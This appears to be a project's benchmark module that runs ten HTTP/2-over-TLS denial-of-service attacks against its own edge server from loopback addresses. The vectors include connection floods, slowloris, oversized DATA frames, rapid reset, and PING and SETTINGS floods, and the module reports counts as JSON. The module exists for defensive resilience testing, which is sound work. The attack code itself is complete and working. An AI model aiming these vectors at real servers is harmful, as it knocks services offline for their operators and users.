"""`python -m bench.attackers VECTOR HOST PORT CA --duration S [--http-port P]`: one attack of issue 11's
table, from many loopback source addresses (127.0.0.2, ...), for a bounded time; prints one JSON line.

Each vector is a number of attacker connections, each in its own task, that reconnect when the edge
closes them (an attacker does), until the duration is over. Raw HTTP/2 over TLS (h2 for the preface and
framing, hand-made frames where h2 would refuse to misbehave). This module is the attacker's side only:
what the edge does about each vector is docs/security.md, "Transport threat model".

    conn_flood         3,000 TCP connections stuck before the TLS handshake, from 40 addresses
    idle_conns         500 connections that finish TLS and the preface and open no stream
    unregistered       25 addresses x 60 Connect streams that never send their registration
    slowloris_health   1,000 connections to the ops HTTP port, each dribbling a request head
    partial_message    200 streams from 4 addresses, each sending part of a 4 MiB first message
    big_frame          10 connections, each sending one DATA frame header declaring 16 MiB, then its body
    rapid_reset        40 connections from 40 addresses opening streams and resetting them at once
    ping_flood         40 connections sending PINGs as fast as they can, reading the acknowledgements
    ping_flood_unread  the same, never reading
    settings_flood     40 connections sending SETTINGS frames, never reading
"""

from __future__ import annotations

import argparse
import collections
import functools
import json
import resource
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from typing import Any, Final

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import trio

from bench import wire

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: Frame types and flags used by hand (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0x0, 0x1, 0x3, 0x4, 0x6
BATCH: Final = 256


def frame_header(length: int, kind: int, flags: int, stream_id: int) -> bytes:
    return length.to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream_id & 0x7FFFFFFF)


def sources(count: int) -> list[str]:
    return [f"127.0.0.{2 + index}" for index in range(count)]


class Attack:
    def __init__(self, host: str, port: int, ca_path: str, until: float) -> None:
        self.host, self.port, self.until = host, port, until
        self.context = wire.client_ssl_context(ca_path)
        self.counts: collections.Counter[str] = collections.Counter()

    def over(self) -> bool:
        return trio.current_time() >= self.until

    async def tcp(self, source: str, port: int | None = None) -> trio.SocketStream:
        return await trio.open_tcp_stream(self.host, port or self.port, local_address=source)

    async def h2(self, source: str) -> tuple[trio.SSLStream, h2.connection.H2Connection]:
        """TLS and the HTTP/2 preface (through h2, which sends SETTINGS after the magic)."""
        stream = trio.SSLStream(await self.tcp(source), self.context, server_hostname="localhost")
        await stream.do_handshake()
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        connection.initiate_connection()
        await stream.send_all(connection.data_to_send())
        self.counts["handshakes"] += 1
        return stream, connection

    async def repeat(self, one: Callable[[], Awaitable[None]]) -> None:
        """Run `one` connection's life again and again until the attack is over."""
        while not self.over():
            try:
                await one()
            except* (OSError, trio.BrokenResourceError, trio.ClosedResourceError, h2.exceptions.H2Error) as group:
                self.counts[f"ended: {type(group.exceptions[0]).__name__}"] += 1
            await trio.sleep(0.05)

    async def h2_session(
        self, source: str, act: Callable[[trio.SSLStream, h2.connection.H2Connection], Awaitable[None]]
    ) -> None:
        """TLS and the preface from `source`, then `act(stream, connection)` beside a reader that feeds h2
        (the reader never writes: `act` sends h2's acknowledgements with its own bytes); closed after."""
        stream, connection = await self.h2(source)
        async with stream, trio.open_nursery() as inner:
            inner.start_soon(self.drain, stream, connection, False)
            await act(stream, connection)
            inner.cancel_scope.cancel()

    async def drain(
        self, stream: trio.abc.Stream, connection: h2.connection.H2Connection | None = None, reply: bool = True
    ) -> None:
        """Read until EOF; feed h2 when given (so WINDOW_UPDATEs count), and send its replies if `reply`."""
        while data := await stream.receive_some(65536):
            self.counts["bytes_read"] += len(data)
            if connection is not None:
                for event in connection.receive_data(data):
                    if isinstance(event, h2.events.StreamReset):
                        self.counts["streams_reset_by_edge"] += 1
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        self.counts[f"goaway {int(event.error_code)}"] += 1
                    elif isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
                        status = dict(event.headers).get("grpc-status")
                        if status is not None:
                            self.counts[f"grpc-status {status}"] += 1
                pending = connection.data_to_send() if reply else b""
                if pending:
                    await stream.send_all(pending)
        self.counts["closed_by_edge"] += 1


# ------------------------------------------------------------------------------------ vectors


async def conn_flood(a: Attack, nursery: trio.Nursery, _http_port: int | None) -> None:
    for index in range(3000):
        source = sources(40)[index % 40]

        async def one(source: str = source) -> None:
            stream = await a.tcp(source)
            a.counts["connected"] += 1
            async with stream:
                await a.drain(stream)

        nursery.start_soon(a.repeat, one)


async def idle_conns(a: Attack, nursery: trio.Nursery, _http_port: int | None) -> None:
    for index in range(500):
        source = sources(10)[index % 10]

        async def one(source: str = source) -> None:
            stream, connection = await a.h2(source)
            async with stream:
                await a.drain(stream, connection)

        nursery.start_soon(a.repeat, one)


async def unregistered(a: Attack, nursery: trio.Nursery, _http_port: int | None) -> None:
    async def act(stream: trio.SSLStream, connection: h2.connection.H2Connection) -> None:
        while not a.over():
            open_now = sum(1 for s in connection.streams.values() if not s.closed)
            for _ in range(60 - open_now):
                connection.send_headers(connection.get_next_available_stream_id(), wire.REQUEST_HEADERS)
                a.counts["streams_opened"] += 1
            await stream.send_all(connection.data_to_send())
            await trio.sleep(0.2)

    for source in sources(25):
        nursery.start_soon(a.repeat, functools.partial(a.h2_session, source, act))


async def slowloris_health(a: Attack, nursery: trio.Nursery, http_port: int | None) -> None:
    assert http_port is not None
    for index in range(1000):
        source = sources(10)[index % 10]

        async def one(source: str = source) -> None:
            stream = await a.tcp(source, http_port)
            a.counts["connected"] += 1
            async with stream:
                async with trio.open_nursery() as inner:
                    inner.start_soon(a.drain, stream)
                    for byte in b"GET /metrics HTTP/1.1\r\nHost: edge\r\nX-Slow: " + b"a" * 10_000:
                        await stream.send_all(bytes([byte]))
                        await trio.sleep(1.0)

        nursery.start_soon(a.repeat, one)


async def partial_message(a: Attack, nursery: trio.Nursery, _http_port: int | None) -> None:
    body = b"\x00" + (4 * 1024 * 1024).to_bytes(4, "big") + b"x" * (4 * 1024 * 1024 - 1)  # one byte short

    async def act(stream: trio.SSLStream, connection: h2.connection.H2Connection) -> None:
        sent: dict[int, int] = {}
        for _ in range(50):
            stream_id = connection.get_next_available_stream_id()
            connection.send_headers(stream_id, wire.REQUEST_HEADERS)
            sent[stream_id] = 0
        while not a.over():
            for stream_id, done in sent.items():
                try:
                    room = min(connection.local_flow_control_window(stream_id), len(body) - done,
                               connection.max_outbound_frame_size)
                except h2.exceptions.StreamClosedError:
                    continue
                if room > 0:
                    connection.send_data(stream_id, body[done : done + room])
                    sent[stream_id] += room
                    a.counts["bytes_sent"] += room
            await stream.send_all(connection.data_to_send())
            await trio.sleep(0.05)

    for source in sources(4):
        nursery.start_soon(a.repeat, functools.partial(a.h2_session, source, act))


async def big_frame(a: Attack, nursery: trio.Nursery, _http_port: int | None) -> None:
    length = 16 * 1024 * 1024 - 1
    chunk = b"\x00" * 65536
    for index in range(10):
        source = sources(10)[index]

        async def one(source: str = source) -> None:
            stream, connection = await a.h2(source)
            async with stream:
                async with trio.open_nursery() as inner:
                    inner.start_soon(a.drain, stream)
                    stream_id = connection.get_next_available_stream_id()
                    connection.send_headers(stream_id, wire.REQUEST_HEADERS)
                    await stream.send_all(connection.data_to_send() + frame_header(length, DATA, 0, stream_id))
                    a.counts["big_frames"] += 1
                    for _ in range(length // len(chunk) + 1):
                        await stream.send_all(chunk)
                        a.counts["bytes_sent"] += len(chunk)
                    await trio.sleep_forever()

        nursery.start_soon(a.repeat, one)


def _flood(make_batch: Callable[[h2.connection.H2Connection], bytes], *, read: bool, addresses: int = 40) -> Any:
    async def vector(a: Attack, nursery: trio.Nursery, _http_port: int | None) -> None:
        for source in sources(addresses):

            async def one(source: str = source) -> None:
                stream, connection = await a.h2(source)
                async with stream:
                    async with trio.open_nursery() as inner:
                        if read:
                            inner.start_soon(a.drain, stream)
                        while not a.over():
                            await stream.send_all(make_batch(connection))
                            a.counts["batches"] += 1
                        inner.cancel_scope.cancel()

            nursery.start_soon(a.repeat, one)

    return vector


def _resets(connection: h2.connection.H2Connection) -> bytes:
    out = bytearray()
    for _ in range(BATCH):
        stream_id = connection.get_next_available_stream_id()
        connection.send_headers(stream_id, wire.REQUEST_HEADERS)
        connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
        out += connection.data_to_send()
    return bytes(out)


PINGS: Final = b"".join(frame_header(8, PING, 0, 0) + index.to_bytes(8, "big") for index in range(BATCH))
SETTINGS_FRAMES: Final = frame_header(0, SETTINGS, 0, 0) * BATCH

VECTORS: Final = {
    "conn_flood": conn_flood,
    "idle_conns": idle_conns,
    "unregistered": unregistered,
    "slowloris_health": slowloris_health,
    "partial_message": partial_message,
    "big_frame": big_frame,
    "rapid_reset": _flood(_resets, read=True),
    "ping_flood": _flood(lambda _c: PINGS, read=True),
    "ping_flood_unread": _flood(lambda _c: PINGS, read=False),
    "settings_flood": _flood(lambda _c: SETTINGS_FRAMES, read=False),
}


async def main(vector: str, host: str, port: int, ca_path: str, duration: float, http_port: int | None) -> dict[str, Any]:
    attack = Attack(host, port, ca_path, trio.current_time() + duration)
    began = time.monotonic()
    with trio.move_on_after(duration + 5):  # tasks blocked in a read end with the attack
        async with trio.open_nursery() as nursery:
            await VECTORS[vector](attack, nursery, http_port)
            await trio.sleep(duration)
            nursery.cancel_scope.cancel()
    return {"vector": vector, "seconds": round(time.monotonic() - began, 2), **attack.counts}


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("vector", choices=sorted(VECTORS))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("ca")
    parser.add_argument("--duration", type=float, default=20.0)
    parser.add_argument("--http-port", type=int)
    arguments = parser.parse_args()
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    result = trio.run(main, arguments.vector, arguments.host, arguments.port, arguments.ca, arguments.duration,
                      arguments.http_port)
    print(json.dumps(result), file=sys.stdout, flush=True)
